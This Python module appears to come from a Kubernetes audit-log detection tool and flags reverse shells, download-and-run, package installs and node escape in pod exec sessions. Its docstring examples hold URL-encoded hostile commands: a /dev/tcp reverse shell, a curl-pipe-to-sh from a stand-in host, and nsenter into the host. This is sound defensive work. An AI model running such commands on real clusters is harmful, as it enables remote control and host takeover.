"""Indicator 9: unknown binaries. Of the audit log: what sessions bring into a pod and start there."""

from __future__ import annotations

from iocaudit.core.severity import IoC, Severity
from iocaudit.knowledge.clipping import clip
from iocaudit.knowledge.command import suspicions
from iocaudit.signals.audit_event import AuditEvent
from iocaudit.signals.commands import goes_to_node, installs_packages
from iocaudit.signals.indicators.declaration import Indicator, Observation
from iocaudit.signals.indicators.outbound import opened
from iocaudit.signals.wording import what, who

INDICATOR = Indicator(
    IoC.UNKNOWN_BINARY,
    "unknown-binaries",
    "Programs that are loaded, installed or handed to the network by sessions; from Falco, programs that the image does "
    "not have.",
    "What starts inside a container without a session: Falco has to report it.",
)
_EXEC = ("pods/exec",)
_RELATED = ("exec-permission", "writable-root-filesystem", "runs-as-root")


@INDICATOR.detects(
    "reverse-shell-in-session", severity=Severity.CRITICAL, technique="T1059.004", on=_EXEC, related=_RELATED
)
def reverse_shell_in_session(event: AuditEvent) -> Observation | None:
    """A command in a pod hands a shell to the network.

    From then on the attacker needs no API server: who is at the other end commands the pod. There is no other use for
    it.

    Fires:

        verb: create
        user: {username: alice}
        objectRef: {resource: pods, subresource: exec, namespace: shop, name: web}
        requestURI: /api/v1/namespaces/shop/pods/web/exec?command=bash&command=-c&command=bash+-i+%3E%26+%2Fdev%2Ftcp%2F198.51.100.7%2F4444+0%3E%261&stdout=true
        responseStatus: {code: 101}

    Quiet:

        verb: create
        user: {username: alice}
        objectRef: {resource: pods, subresource: exec, namespace: shop, name: web}
        requestURI: /api/v1/namespaces/shop/pods/web/exec?command=nc&command=-z&command=db&command=5432&stdout=true
        responseStatus: {code: 101}

    Sources: MITRE ATT&CK T1059.004, Unix Shell.
    """
    command = opened(event)
    if not any(one.id == "reverse-shell" for one in suspicions(command)):
        return None
    return Observation(f"{who(event)} opens a reverse shell in {what(event)}: {clip(' '.join(command))}")


@INDICATOR.detects("download-run-in-session", severity=Severity.HIGH, technique="T1105", on=_EXEC, related=_RELATED)
def download_run_in_session(event: AuditEvent) -> Observation | None:
    """A command in a pod loads a program and runs it.

    Whatever the image was checked for, this was not.

    Fires:

        verb: create
        user: {username: alice}
        objectRef: {resource: pods, subresource: exec, namespace: shop, name: web}
        requestURI: /api/v1/namespaces/shop/pods/web/exec?command=sh&command=-c&command=curl+-s+https%3A%2F%2Fx.example.com%2Fi.sh+%7C+sh&stdout=true
        responseStatus: {code: 101}

    Quiet:

        verb: create
        user: {username: alice}
        objectRef: {resource: pods, subresource: exec, namespace: shop, name: web}
        requestURI: /api/v1/namespaces/shop/pods/web/exec?command=sh&command=-c&command=ls+%2Fapp&stdout=true
        responseStatus: {code: 101}

    Sources: MITRE ATT&CK T1105, Ingress Tool Transfer.
    """
    command = opened(event)
    if not any(one.id == "download-and-run" for one in suspicions(command)):
        return None
    return Observation(f"{who(event)} loads a program and runs it in {what(event)}: {clip(' '.join(command))}")


@INDICATOR.detects(
    "package-installed-in-session", severity=Severity.MEDIUM, technique="T1072", on=_EXEC, related=_RELATED
)
def package_installed_in_session(event: AuditEvent) -> Observation | None:
    """A command in a pod installs software.

    The container is no longer what its image says, and its next start will lack it: nobody maintains a pod that way.

    Fires:

        verb: create
        user: {username: alice}
        objectRef: {resource: pods, subresource: exec, namespace: shop, name: web}
        requestURI: /api/v1/namespaces/shop/pods/web/exec?command=apt-get&command=install&command=-y&command=nmap&stdout=true
        responseStatus: {code: 101}

    Quiet:

        verb: create
        user: {username: alice}
        objectRef: {resource: pods, subresource: exec, namespace: shop, name: web}
        requestURI: /api/v1/namespaces/shop/pods/web/exec?command=dpkg&command=-l&stdout=true
        responseStatus: {code: 101}

    Sources: MITRE ATT&CK T1072, Software Deployment Tools.
    """
    command = opened(event)
    if not installs_packages(command):
        return None
    return Observation(f"{who(event)} installs software in {what(event)}: {clip(' '.join(command))}")


@INDICATOR.detects(
    "node-entered-in-session",
    severity=Severity.CRITICAL,
    technique="T1611",
    on=_EXEC,
    related=("privileged-container", "host-pid", "sensitive-host-path"),
)
def node_entered_in_session(event: AuditEvent) -> Observation | None:
    """A command in a pod leaves it for the node.

    nsenter into the first process, chroot into the node's root directory: the pod was allowed to hold the node, and
    someone takes it.

    Fires:

        verb: create
        user: {username: alice}
        objectRef: {resource: pods, subresource: exec, namespace: shop, name: tools}
        requestURI: /api/v1/namespaces/shop/pods/tools/exec?command=nsenter&command=-t&command=1&command=-m&command=sh&stdin=true&tty=true
        responseStatus: {code: 101}

    Quiet:

        verb: create
        user: {username: alice}
        objectRef: {resource: pods, subresource: exec, namespace: shop, name: tools}
        requestURI: /api/v1/namespaces/shop/pods/tools/exec?command=ls&command=%2Fproc%2F1&stdout=true
        responseStatus: {code: 101}

    Sources: MITRE ATT&CK T1611, Escape to Host; manual of nsenter.
    """
    command = opened(event)
    if not goes_to_node(command):
        return None
    return Observation(f"{who(event)} enters the node from {what(event)}: {clip(' '.join(command))}")
